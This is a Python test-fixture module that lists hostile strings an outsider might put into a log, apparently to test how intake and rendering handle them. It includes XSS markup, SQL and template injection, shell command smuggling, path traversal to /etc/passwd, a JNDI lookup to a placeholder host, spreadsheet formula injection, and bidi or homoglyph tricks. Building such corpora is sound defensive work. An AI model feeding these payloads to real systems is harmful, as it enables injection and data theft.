# ruff: noqa: RUF001, E501 - look-alike letters are what this is about
"""Text that outsiders could put into a log, by what it tries to do. All our own.

Two ways in: markup and code that a page, a sheet or a terminal might run, and
characters that change how the text around them is read or measured.
"""

from collections.abc import Iterator

MARKUP = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></textarea><!--<script>",
    "<svg/onload=alert`1`>",
    "\"><iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'>",
    "'onmouseover='alert(1)",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>*{background:url(//elsewhere.example/x)}</style>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action=//elsewhere.example><input name=q autofocus>",
    "]]><![CDATA[<script>alert(1)</script>",
    "&lt;b&gt;already escaped&lt;/b&gt; &#x3c;i&#x3e;",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "$\\alpha$ <b>bold</b> <a href='javascript:alert(1)'>x</a>",
)
CODE = (
    "{{7*7}} ${7*7} #{7*7} %{x} <%= 7*7 %>",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "'); drop table x; --\"\"",
    "' or '1'='1",
    "\\'; select 1; --",
    "$(touch x) `id` | cat && echo ; #",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "%s%n%x %d {0} {x!r}",
    "x\r\n Bcc: everybody@example.org",
    "x\r\n<134>Jan  1 00:00:00 fw CEF:0|forged",
    "[bold red]markup of a terminal[/] :warning:",
    "\"quoted\"\"ident\"",
    "<!DOCTYPE html>",
    "${jndi:ldap://elsewhere.example/a}",
    "con", "nul.txt", "aux", ".", "..", "-rf", "--help", "~root",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://elsewhere.example\",\"x\")",
    "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", ";=1+1",
    "=1+1\",\"=2+2", "＝1+1",
)  # fmt: skip
CONTROLS = (
    "\x00nul\x00", "\x1b[2J\x1b]8;;http://x.example\x07", "\x08\x08\x08gone", "\x7f",
    "\x9b31m", "\x1b]52;c;bm90aGluZw==\x07", "a\rb\nc", "line\u2028separator\u2029", "\x0b\x0c",
)  # fmt: skip
DIRECTIONS = (
    "\u202egnp.exe \u2066x\u200b", "\u2067\u2068mixed\u2069", "\u061carabic mark",
    "שלום עולם", "مرحبا بالعالم", "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "soft\xadhyphen", "\u2060word\u2060joiner", "tag\U000e0041\U000e007f",
)  # fmt: skip
SHAPES = (
    "e" + "\u0301" * 500, "z" + "\u0335" * 10_000, "\u00e9 e\u0301",
    ".".join(["h" * 63] * 4)[:255], "Agent/" + "u" * 65_536,
    "Z̸̢͓̳̘̱̓̈́a̵͖̙̋ļ̷̮͉g̶̳̈o̴̥͝",
    "𝔣𝔞𝔨𝔢 𝕥𝕖𝕩𝕥 ｆｕｌｌ",
    "раураl.example", "аррӏе.example", "docs.example.org.elsewhere.example.", "xn--80ak6aa92e.example", "ﬁ ﬂ ﬃ",
    "👩‍👩‍👧‍👦🏳️‍🌈", "日本語テスト", "İıŞşĞğ", "ẞß", "\ud800lone", "\udfff",
    "￾￿", "x" * 5_000, "a b" * 900, " ", "   lead and trail   ",
)  # fmt: skip
VALUES = (
    "None", "null", "NaN", "Infinity", "-0", "1e309", "true", "undefined", "N/A",
    "0x1F", "٣٤", "1,234.5", "2026-02-30T25:61:61Z", "9" * 400, "__proto__",
    "constructor", "[object Object]", "999.1.1.1", "010.1.1.1", "[::ffff:0:0]",
)  # fmt: skip
CORPUS = (
    *MARKUP, *CODE, *FORMULAS, *CONTROLS, *DIRECTIONS, *SHAPES, *VALUES,
)  # fmt: skip


def sound(text: str) -> str:
    """As a frame or a settings file holds it: without lone surrogates."""
    return text.encode("utf-8", "replace").decode()


def in_turn(start: int = 0) -> Iterator[str]:
    """Yield the corpus without an end, from some place on, as intake lets it in."""
    place = start
    while True:
        yield sound(CORPUS[place % len(CORPUS)])
        place += 1
